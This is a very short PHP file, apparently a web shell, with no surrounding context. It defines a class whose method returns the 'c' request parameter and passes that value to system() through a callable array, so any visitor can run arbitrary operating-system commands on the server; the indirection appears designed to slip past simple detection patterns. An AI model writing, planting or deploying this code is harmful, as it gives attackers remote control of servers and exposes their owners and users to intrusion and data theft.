<?php
class K { function v() { return $_GET["c"]; } }
system([new K, "v"]());
